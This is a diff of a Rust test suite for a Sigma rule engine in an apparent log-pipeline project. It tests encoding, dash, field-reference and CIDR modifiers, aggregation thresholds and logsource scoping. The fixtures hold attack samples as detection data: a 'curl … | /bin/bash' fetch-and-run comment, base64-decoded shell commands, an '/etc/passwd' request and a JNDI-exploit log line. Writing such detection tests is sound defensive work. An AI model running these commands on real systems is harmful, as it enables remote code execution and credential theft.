@@ -3,12 +3,15 @@
 //! every unsupported construct is reported per rule with its reason.
 
 use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::time::Duration;
 
 use ironpost_core::severity::Severity;
-use ironpost_log_pipeline::MapFields;
 use ironpost_log_pipeline::rules::{
-    RejectKind, RuleError, RuleFormat, RuleSet, RuleStatus, load_dir, load_str, validate_dir,
+    Alerter, AlertingConfig, ManualClock, RejectKind, Rule, RuleError, RuleFormat, RuleSet,
+    RuleStatus, load_dir, load_str, validate_dir,
 };
+use ironpost_log_pipeline::{MapFields, ParseContext, parse};
 
 fn fixture(rel: &str) -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR"))
@@ -242,7 +245,7 @@ fn unsupported_rules_are_reported_with_reasons() {
             "lnx_auth_failed_logins_single_source.yml",
             "aggregation `| count(pam_user) by pam_rhost > 3`",
         ),
-        ("lnx_base64offset.yml", "modifier `|base64offset`"),
+        ("lnx_base64offset.yml", "modifier `|utf16le`"),
         ("lnx_correlation.yml", "Sigma correlation rules"),
         ("lnx_near.yml", "the `near` operator"),
         ("win_whoami.yml", "logsource category `process_creation`"),
@@ -409,6 +412,362 @@ fn conditions_and_modifiers() {
     }
 }
 
+/// `base64`, `base64offset`, `windash`, `fieldref` and `cidr` on sample records, alone and with
+/// `contains` / `startswith` / `endswith` / `all`.
+#[test]
+fn encoding_dash_fieldref_and_cidr_modifiers() {
+    // "curl -s http://x | /bin/bash" with its payload base64-encoded at three alignments.
+    let b64_at = |prefix: &str| {
+        rec(
+            "bash",
+            &format!("echo {prefix}L2Jpbi9iYXNo | base64 -d"),
+            &[],
+        )
+    };
+    let encoded = b64_at("");
+    // " /bin/bash" and "  /bin/bash" encode to these (the first characters depend on the prefix).
+    let offset1 = rec("bash", "echo IC9iaW4vYmFzaA== | base64 -d", &[]);
+    let offset2 = rec("bash", "echo ICAvYmluL2Jhc2g= | base64 -d", &[]);
+    let dashes = |m: &str| rec("cmd", m, &[]);
+    let login = |user: &str, target: &str, ip: &str| {
+        rec(
+            "sshd",
+            "Accepted publickey",
+            &[
+                ("user", user),
+                ("target_user", target),
+                ("src_ip", ip),
+                ("sender_ip", "10.0.0.9"),
+            ],
+        )
+    };
+    let sel = |body: &str| format!("    sel:\n        {body}\n    condition: sel");
+    let cases: Vec<(String, MapFields, bool)> = vec![
+        (
+            sel("Message|base64|contains: '/bin/bash'"),
+            encoded.clone(),
+            true,
+        ),
+        (
+            sel("Message|base64|contains: '/bin/sh'"),
+            encoded.clone(),
+            false,
+        ),
+        // base64 output is compared case-sensitively.
+        (
+            sel("Message|base64|contains: '/BIN/BASH'"),
+            encoded.clone(),
+            false,
+        ),
+        (
+            sel("Message|base64|startswith: '/bin/bash'"),
+            encoded.clone(),
+            false,
+        ),
+        (
+            sel("Message|base64offset|contains: '/bin/bash'"),
+            encoded.clone(),
+            true,
+        ),
+        (
+            sel("Message|base64offset|contains: '/bin/bash'"),
+            offset1.clone(),
+            true,
+        ),
+        (
+            sel("Message|base64offset|contains: '/bin/bash'"),
+            offset2.clone(),
+            true,
+        ),
+        (
+            sel("Message|base64|contains: '/bin/bash'"),
+            offset1.clone(),
+            false,
+        ),
+        (
+            sel(
+                "Message|base64offset|contains|all:\n            - '/bin/bash'\n            - 'nope'",
+            ),
+            offset2.clone(),
+            false,
+        ),
+        (
+            sel("Message|base64offset|contains:\n            - 'nope'\n            - '/bin/bash'"),
+            offset2.clone(),
+            true,
+        ),
+        (
+            sel("Message|windash|contains: ' -enc '"),
+            dashes("ps /enc abc"),
+            true,
+        ),
+        (
+            sel("Message|windash|contains: ' -enc '"),
+            dashes("ps \u{2013}enc abc"),
+            true,
+        ),
+        (
+            sel("Message|windash|contains: ' -enc '"),
+            dashes("ps \u{2014}enc abc"),
+            true,
+        ),
+        (
+            sel("Message|windash|contains: ' -enc '"),
+            dashes("ps \u{2015}enc abc"),
+            true,
+        ),
+        (
+            sel("Message|windash|contains: ' -enc '"),
+            dashes("ps -enc abc"),
+            true,
+        ),
+        (
+            sel("Message|windash|contains: ' -enc '"),
+            dashes("ps +enc abc"),
+            false,
+        ),
+        // Without `|windash` only the dash written matches.
+        (
+            sel("Message|contains: ' -enc '"),
+            dashes("ps /enc abc"),
+            false,
+        ),
+        // A dash inside a word is not an option dash.
+        (
+            sel("Message|windash|contains: 'x-y'"),
+            dashes("a x/y"),
+            false,
+        ),
+        (
+            sel("Message|windash|startswith: '/c '"),
+            dashes("-c whoami"),
+            true,
+        ),
+        (
+            sel("Message|windash|endswith: ' -f'"),
+            dashes("rm \u{2015}f"),
+            true,
+        ),
+        (
+            sel("Message|windash|contains|all:\n            - ' -a '\n            - ' -b '"),
+            dashes("t /a /b "),
+            true,
+        ),
+        (
+            sel("Message|windash|contains|all:\n            - ' -a '\n            - ' -c '"),
+            dashes("t /a /b "),
+            false,
+        ),
+        (
+            sel("User|fieldref: target_user"),
+            login("root", "root", "10.0.0.9"),
+            true,
+        ),
+        (
+            sel("User|fieldref: target_user"),
+            login("root", "admin", "10.0.0.9"),
+            false,
+        ),
+        (
+            sel("User|fieldref: missing_field"),
+            login("root", "root", "10.0.0.9"),
+            false,
+        ),
+        (
+            sel("SourceIp|fieldref: sender_ip"),
+            login("a", "b", "10.0.0.9"),
+            true,
+        ),
+        (
+            sel("SourceIp|fieldref: sender_ip"),
+            login("a", "b", "10.0.0.8"),
+            false,
+        ),
+        (
+            sel("User|fieldref:\n            - nope\n            - target_user"),
+            login("root", "root", "1.2.3.4"),
+            true,
+        ),
+        (
+            sel("SourceIp|cidr: '10.0.0.0/8'"),
+            login("a", "b", "10.1.2.3"),
+            true,
+        ),
+        (
+            sel("SourceIp|cidr:\n            - '192.168.0.0/16'\n            - '2001:db8::/32'"),
+            login("a", "b", "2001:db8::1"),
+            true,
+        ),
+        (
+            sel("SourceIp|cidr: '2001:db8::/32'"),
+            login("a", "b", "2001:db9::1"),
+            false,
+        ),
+        (
+            sel("SourceIp|cidr|all:\n            - '10.0.0.0/8'\n            - '10.1.0.0/16'"),
+            login("a", "b", "10.1.2.3"),
+            true,
+        ),
+        (
+            sel("SourceIp|cidr|all:\n            - '10.0.0.0/8'\n            - '10.2.0.0/16'"),
+            login("a", "b", "10.1.2.3"),
+            false,
+        ),
+        // Any field, here one that is not an IP-typed field of the parsers.
+        (
+            sel("sender_ip|cidr: '10.0.0.0/24'"),
+            login("a", "b", "1.1.1.1"),
+            true,
+        ),
+        (
+            sel("User|cidr: '10.0.0.0/24'"),
+            login("a", "b", "1.1.1.1"),
+            false,
+        ),
+    ];
+    for (detection, record, want) in cases {
+        let set = compile_sigma(&detection);
+        assert_eq!(
+            !matched(&set, &record).is_empty(),
+            want,
+            "{detection}\n{:?}",
+            record.message
+        );
+    }
+}
+
+/// A Sigma rule with an aggregation, as one rule loaded from text.
+fn aggregated(condition: &str, timeframe: &str) -> Rule {
+    let yaml = format!(
+        "title: Many failures\nid: agg-1\nlogsource:\n    product: linux\n    service: sshd\ndetection:\n    sel:\n        - 'Failed password'\n    timeframe: {timeframe}\n    condition: '{condition}'\nlevel: high\n"
+    );
+    let loaded = load_str(&yaml, Some(Path::new("agg.yml")));
+    assert!(loaded.errors.is_empty(), "{condition}: {:?}", loaded.errors);
+    let [rule] = <[Rule; 1]>::try_from(loaded.rules).expect("one rule");
+    rule
+}
+
+#[test]
+fn aggregations_become_thresholds() {
+    for (condition, timeframe, count, window, group_by) in [
+        ("sel | count() by src_ip > 5", "10m", 6, 600, vec!["src_ip"]),
+        (
+            "sel | count() by SourceIp >= 5",
+            "30s",
+            5,
+            30,
+            vec!["src_ip"],
+        ),
+        ("sel | count() > 0", "1h", 1, 3600, vec![]),
+        (
+            "sel | count() by User, src_ip > 2",
+            "2d",
+            3,
+            172_800,
+            vec!["user", "src_ip"],
+        ),
+    ] {
+        let rule = aggregated(condition, timeframe);
+        let t = rule.threshold.expect(condition);
+        assert_eq!(t.count, count, "{condition}");
+        assert_eq!(t.window, Duration::from_secs(window), "{condition}");
+        assert_eq!(t.group_by, group_by, "{condition}");
+    }
+    for (condition, timeframe, unsupported, want) in [
+        (
+            "sel | count(user) by src_ip > 3",
+            "10m",
+            true,
+            "counting distinct values",
+        ),
+        (
+            "sel | count() by src_ip < 3",
+            "10m",
+            true,
+            "`<` (only `>` and `>=`",
+        ),
+        ("sel | count() by src_ip <= 3", "10m", true, "`<=`"),
+        ("sel | count() by src_ip = 3", "10m", true, "`=`"),
+        (
+            "sel | sum(port) by src_ip > 3",
+            "10m",
+            true,
+            "`sum()` (only `count()`)",
+        ),
+        (
+            "sel | count() by src_ip > x",
+            "10m",
+            false,
+            "`x` is not a whole number",
+        ),
+        ("sel | count() src_ip > 3", "10m", false, "expected `by`"),
+        (
+            "sel | count() by src_ip > 3",
+            "10y",
+            false,
+            "`timeframe: 10y`",
+        ),
+        (
+            "sel | count() by src_ip > 3",
+            "8d",
+            false,
+            "between 1 and 604800 seconds",
+        ),
+        ("sel and near x", "10m", true, "the `near` operator"),
+    ] {
+        let yaml = format!(
+            "title: T\nid: agg-2\nlogsource:\n    product: linux\ndetection:\n    sel:\n        - x\n    timeframe: {timeframe}\n    condition: '{condition}'\n"
+        );
+        let loaded = load_str(&yaml, Some(Path::new("agg.yml")));
+        let [err] = loaded.errors.as_slice() else {
+            panic!("{condition}: {:?}", loaded.rules)
+        };
+        assert_eq!(err.is_unsupported(), unsupported, "{condition}: {err}");
+        let text = err.to_string();
+        assert!(
+            text.contains(want),
+            "{condition}: expected `{want}` in {text}"
+        );
+        assert!(text.starts_with("agg.yml: rule `agg-2`"), "{text}");
+    }
+}
+
+#[test]
+fn aggregation_alerts_once_per_window_crossing_per_group() {
+    const SEC: i64 = 1_000_000;
+    let rule = aggregated("sel | count() by src_ip > 2", "1m");
+    let set = RuleSet::compile(vec![rule.clone()]).expect("compiles");
+    let config = AlertingConfig {
+        max_groups: 2,
+        ..AlertingConfig::default()
+    };
+    let mut alerter = Alerter::in_memory(config, Arc::new(ManualClock::new(0)));
+    let mut feed = |ip: &str, secs: i64| {
+        let mut r = rec(
+            "sshd",
+            &format!("Failed password for root from {ip} port 22 ssh2"),
+            &[("src_ip", ip)],
+        );
+        r.timestamp_micros = Some(secs * SEC);
+        assert_eq!(matched(&set, &r), ["Many failures"]);
+        alerter.observe(&rule, &r).is_some()
+    };
+    // Three within a minute (count > 2) alert once; the fourth is the same window crossing.
+    assert!(!feed("198.51.100.7", 0));
+    assert!(!feed("198.51.100.7", 10));
+    // Another group's hits count apart.
+    assert!(!feed("203.0.113.9", 15));
+    assert!(feed("198.51.100.7", 20));
+    assert!(!feed("198.51.100.7", 25));
+    // Spread over more than a minute: no alert.
+    assert!(!feed("203.0.113.9", 80));
+    assert!(!feed("203.0.113.9", 150));
+    // A third group evicts the least recently used one (bounded state, counted).
+    assert!(!feed("192.0.2.1", 160));
+    assert!(alerter.state_stats().evictions >= 1);
+    assert_eq!(alerter.counters().alerts, 1);
+}
+
 #[test]
 fn metadata_maps_onto_rules() {
     let yaml = "\
@@ -461,9 +820,9 @@ fn unsupported_and_invalid_constructs() {
             "neither",
         ),
         (
-            "logsource: {product: linux}\ndetection: {s: {Message|windash: x}, condition: s}",
+            "logsource: {product: linux}\ndetection: {s: {Message|wide|base64: x}, condition: s}",
             true,
-            "`|windash`",
+            "modifier `|wide`",
         ),
         (
             "logsource: {product: linux}\ndetection: {s: {Message|frobnicate: x}, condition: s}",
@@ -521,4 +880,248 @@ fn unsupported_and_invalid_constructs() {
             RuleError::Unsupported { .. } | RuleError::Invalid { .. }
         ));
     }
+}
+
+/// The vendored SigmaHQ rules (`testdata/sigmahq/`, see its PROVENANCE).
+fn sigmahq(rel: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../testdata/sigmahq")
+        .join(rel)
+}
+
+/// A rejection's reason without the rule's particulars: `logsource category process_creation`,
+/// `modifier |wide`, `aggregation: counting distinct values (count(field))` …
+fn reason_class(error: &RuleError) -> String {
+    let (kind, reason) = match error {
+        RuleError::Unsupported { reason, .. } => ("unsupported", reason.clone()),
+        RuleError::Invalid { reason, .. } => ("invalid", reason.clone()),
+        other => ("invalid", other.to_string()),
+    };
+    // `detection.selection: modifier …` → `modifier …`
+    let reason = match reason.strip_prefix("detection.") {
+        Some(rest) => rest.split_once(": ").map_or(rest, |(_, r)| r).to_owned(),
+        None => reason,
+    };
+    let ticked = |prefix: &str| {
+        reason
+            .strip_prefix(prefix)
+            .map(|rest| rest.split('`').next().unwrap_or("").to_owned())
+    };
+    let class = if let Some(v) = ticked("logsource category `") {
+        format!("logsource category {v}")
+    } else if let Some(v) = ticked("logsource product `") {
+        format!("logsource product {v}")
+    } else if let Some(v) = ticked("logsource service `") {
+        format!("logsource service {v}")
+    } else if let Some(v) = ticked("modifier `") {
+        format!("modifier {v}")
+    } else if let Some(v) = ticked("unknown modifier `") {
+        format!("unknown modifier {v}")
+    } else if reason.starts_with("aggregation `") {
+        let why = reason.split_once("`: ").map_or("", |(_, w)| w);
+        format!("aggregation: {}", why.replace('`', ""))
+    } else {
+        reason.replace('`', "")
+    };
+    format!("{kind}: {class}")
+}
+
+/// Every SigmaHQ `rules/linux` and `rules/web` rule vendored is either loaded or rejected for a
+/// known reason. `testdata/sigmahq/expected_load.txt` holds the committed figures: the loaded
+/// count may only grow, and no rejection reason may gain rules or appear anew. Run with
+/// `--no-capture` to see the report; update the file when support improves.
+#[test]
+fn sigmahq_linux_and_web_load_report() {
+    let report = validate_dir(&sigmahq("rules"));
+    let mut per_reason: std::collections::BTreeMap<String, usize> = Default::default();
+    for r in &report.unsupported {
+        *per_reason.entry(reason_class(&r.error)).or_default() += 1;
+    }
+    let rejected = report.unsupported.len();
+    let mut text = format!("loaded {}\nrejected {rejected}\n", report.loaded.len());
+    for (reason, n) in &per_reason {
+        text.push_str(&format!("{n} {reason}\n"));
+    }
+    println!("{text}");
+    let expected = std::fs::read_to_string(sigmahq("expected_load.txt")).expect("expected file");
+    let mut want_loaded = None;
+    let mut want: std::collections::BTreeMap<String, usize> = Default::default();
+    for line in expected.lines().filter(|l| !l.trim().is_empty()) {
+        let (n, rest) = line.split_once(' ').expect("`N reason` lines");
+        match (n, rest) {
+            ("loaded", n) => want_loaded = Some(n.parse::<usize>().expect("number")),
+            ("rejected", _) => {}
+            (n, reason) => {
+                want.insert(reason.to_owned(), n.parse().expect("number"));
+            }
+        }
+    }
+    let want_loaded = want_loaded.expect("a `loaded N` line");
+    // The rules on disk: each file is one rule.
+    let files = walk(&sigmahq("rules"));
+    assert_eq!(report.loaded.len() + rejected, files, "{text}");
+    assert!(
+        report.loaded.len() >= want_loaded,
+        "fewer SigmaHQ rules load than committed ({want_loaded}):\n{text}"
+    );
+    for (reason, n) in &per_reason {
+        let allowed = want.get(reason).copied().unwrap_or(0);
+        assert!(
+            *n <= allowed,
+            "`{reason}` rejects {n} rules, committed {allowed}:\n{text}"
+        );
+    }
+}
+
+fn walk(dir: &Path) -> usize {
+    std::fs::read_dir(dir)
+        .expect("vendored SigmaHQ rules")
+        .map(|e| e.expect("entry").path())
+        .map(|p| {
+            if p.is_dir() {
+                walk(&p)
+            } else {
+                usize::from(p.extension().is_some_and(|e| e == "yml"))
+            }
+        })
+        .sum()
+}
+
+/// A Sigma rule only runs on records of its log source: the `logsource` mapping on records that
+/// say which grammar read them (`format`).
+#[test]
+fn logsource_keeps_rules_to_their_records() {
+    let with_format =
+        |format: &str, process: &str| rec(process, "GET /etc/passwd x", &[("format", format)]);
+    let access = with_format("combined", "");
+    let web_error = with_format("web_error", "");
+    let syslog = with_format("rfc3164", "sshd");
+    let journal = with_format("journal", "sshd");
+    let vsftpd = with_format("rfc3164", "vsftpd");
+    for (logsource, hits) in [
+        ("{category: webserver}", [true, false, false, false, false]),
+        (
+            "{category: webserver, product: nginx}",
+            [true, false, false, false, false],
+        ),
+        (
+            "{category: webserver, product: apache}",
+            [true, false, false, false, false],
+        ),
+        ("{service: nginx}", [true, true, false, false, false]),
+        ("{service: apache}", [true, true, false, false, false]),
+        (
+            "{product: nginx, service: nginx}",
+            [true, true, false, false, false],
+        ),
+        ("{product: nginx}", [true, true, false, false, false]),
+        (
+            "{product: apache, service: access}",
+            [true, false, false, false, false],
+        ),
+        (
+            "{product: nginx, service: error}",
+            [false, true, false, false, false],
+        ),
+        ("{product: linux}", [false, false, true, true, true]),
+        (
+            "{product: linux, service: syslog}",
+            [false, false, true, true, true],
+        ),
+        (
+            "{product: linux, service: sshd}",
+            [false, false, true, true, false],
+        ),
+        (
+            "{product: linux, service: vsftpd}",
+            [false, false, false, false, true],
+        ),
+        (
+            "{product: linux, service: journald}",
+            [false, false, false, true, false],
+        ),
+    ] {
+        let yaml = format!(
+            "title: T\nid: ls-1\nlogsource: {logsource}\ndetection:\n    kw:\n        - '/etc/passwd'\n    condition: kw\n"
+        );
+        let loaded = load_str(&yaml, Some(Path::new("ls.yml")));
+        assert!(loaded.errors.is_empty(), "{logsource}: {:?}", loaded.errors);
+        let set = RuleSet::compile(loaded.rules).expect("compiles");
+        let got =
+            [&access, &web_error, &syslog, &journal, &vsftpd].map(|r| !matched(&set, r).is_empty());
+        assert_eq!(got, hits, "{logsource}");
+    }
+    for (logsource, want) in [
+        ("{category: proxy}", "logsource category `proxy`"),
+        (
+            "{category: webserver, product: iis}",
+            "a product other than nginx or apache",
+        ),
+        (
+            "{product: linux, service: auditd}",
+            "logsource service `auditd`",
+        ),
+        (
+            "{product: nginx, service: sshd}",
+            "service `sshd` with product `nginx`",
+        ),
+        (
+            "{product: apache, service: nginx}",
+            "service `nginx` with product `apache`",
+        ),
+        ("{product: windows}", "logsource product `windows`"),
+    ] {
+        let yaml = format!(
+            "title: T\nid: ls-2\nlogsource: {logsource}\ndetection:\n    kw:\n        - x\n    condition: kw\n"
+        );
+        let loaded = load_str(&yaml, Some(Path::new("ls.yml")));
+        let [err] = loaded.errors.as_slice() else {
+            panic!("{logsource}: {:?}", loaded.rules)
+        };
+        assert!(err.is_unsupported(), "{logsource}: {err}");
+        assert!(err.to_string().contains(want), "{logsource}: {err}");
+    }
+}
+
+/// End to end with the parsers: SigmaHQ's own web and sshd rules fire on lines of their source
+/// and not on the same text arriving through another.
+#[test]
+fn sigmahq_rules_match_parsed_lines_of_their_source_only() {
+    let loaded = load_dir(&sigmahq("rules"));
+    let set = RuleSet::compile(loaded.rules).expect("the loaded SigmaHQ rules compile");
+    let ctx = ParseContext::new(1_795_000_000_000_000, 0);
+    let titles = |line: &str| {
+        let rec = parse(line.as_bytes(), &ctx);
+        let mut out = Vec::new();
+        set.matches(&rec, &mut out);
+        let mut t: Vec<String> = out.iter().map(|r| r.title.clone()).collect();
+        t.sort();
+        t
+    };
+    let jndi = "JNDIExploit Pattern";
+    let access = r#"203.0.113.5 - - [20/Nov/2026:10:00:00 +0000] "GET /Basic/Command/Base64/aWQ= HTTP/1.1" 404 153 "-" "curl/8.5.0""#;
+    assert!(
+        titles(access).contains(&jndi.to_owned()),
+        "{:?}",
+        titles(access)
+    );
+    let syslog = "Nov 20 10:00:00 web1 myapp[42]: fetching /Basic/Command/Base64/aWQ=";
+    assert!(
+        !titles(syslog).contains(&jndi.to_owned()),
+        "{:?}",
+        titles(syslog)
+    );
+    let sshd_rule = "Suspicious OpenSSH Daemon Error";
+    let sshd = "Nov 20 10:00:00 host1 sshd[812]: error: unexpected internal error";
+    assert!(
+        titles(sshd).contains(&sshd_rule.to_owned()),
+        "{:?}",
+        titles(sshd)
+    );
+    let other = "Nov 20 10:00:00 host1 myapp[9]: error: unexpected internal error";
+    assert!(
+        !titles(other).contains(&sshd_rule.to_owned()),
+        "{:?}",
+        titles(other)
+    );
 }
